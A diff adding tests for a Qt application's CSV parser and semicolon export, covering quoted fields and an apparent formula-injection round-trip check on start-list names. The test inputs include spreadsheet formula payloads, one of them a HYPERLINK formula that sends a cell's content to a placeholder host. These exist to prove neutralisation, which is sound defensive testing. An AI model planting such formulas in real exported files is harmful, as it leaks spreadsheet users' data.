@@ -1,5 +1,6 @@
 #include "gridstore/CellStore.h"
 #include "gridstore/CellTable.h"
+#include "gridstore/GridCsvText.h"
 #include "protocol/ProtocolFiles.h"
 #include "support/TestSupport.h"
 
@@ -142,6 +143,41 @@ private slots:
         QTest::newRow("last line without line end")
             << QByteArray("1;A\r\n2;B") << rowsOf({ row7({ "1", "A" }), row7({ "2", "B" }) });
         QTest::newRow("empty file") << QByteArray() << rowsOf({});
+        QTest::newRow("quoted fields keep ;, quotes and line breaks, untrimmed")
+            << QByteArray("1;\"Berg; \"\"Anna\"\"\";\" x \"\r\n2;\"Zeile 1\r\nZeile 2\";B\r\n3;C\r\n")
+            << rowsOf({ row7({ "1", "Berg; \"Anna\"", " x " }), row7({ "2", "Zeile 1\r\nZeile 2", "B" }),
+                   row7({ "3", "C" }) });
+        QTest::newRow("the writer's apostrophe goes, a cell's own stays")
+            << QByteArray("1;\"'=1+1\";\"''=x;y\";'=z;\"'a;b\";\"'-5\"\r\n")
+            << rowsOf({ row7({ "1", "=1+1", "'=x;y", "'=z", "'a;b", "'-5" }) });
+        QTest::newRow("spreadsheet quoting of a start list")
+            << QByteArray("\"12\";\"Huber\"\r\n") << rowsOf({ row7({ "12", "Huber" }) });
+        QTest::newRow("quote inside a TAB line is text")
+            << QByteArray("1\t\"Flash\" Gordon\t\r\n") << rowsOf({ row7({ "1", "\"Flash\" Gordon" }) });
+        QTest::newRow("unclosed quote reads as before")
+            << QByteArray("1;\"Flash\r\n2;B\r\n") << rowsOf({ row7({ "1", "\"Flash" }), row7({ "2", "B" }) });
+        QTest::newRow("text after a closing quote reads as before")
+            << QByteArray("1;\"Flash\" Gordon;x\r\n") << rowsOf({ row7({ "1", "\"Flash\" Gordon", "x" }) });
+    }
+
+    // What a start list from a registration form may hold comes back from
+    // the semicolon export as it was, and no spreadsheet reads a formula.
+    void csvExport_readsBackToTheSameTable()
+    {
+        const QStringList names { "=1+1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "+49 170", "-Berg",
+            "@SUM(A1)", "\t=2", "\r=3", "Berg; Anna", "Max \"Blitz\" Meier", "Zeile 1\r\nZeile 2", "2024", "-7",
+            "'=x;y", QStringLiteral("Jörg Müller") };
+        TCellStore cells(7, static_cast<int>(names.size()) + 1);
+        setHeader(cells);
+        for (int i = 0; i < names.size(); ++i)
+            cells.SetRow(i + 1,
+                { QString::number(i + 1), names[i], "10:05.03,12", "1.05,12", "0,00", QString::number(i + 1),
+                    "65120" });
+        const LoadedProtocol loaded = protocol::ParseProtocolText(GridCsvBytes(cells));
+        QVERIFY(loaded.ok());
+        QCOMPARE(int(loaded.rows.size()), int(names.size()));
+        for (int i = 0; i < names.size(); ++i)
+            QCOMPARE(loaded.rows[size_t(i)], cells.Row(i + 1));
     }
 
     void parse()
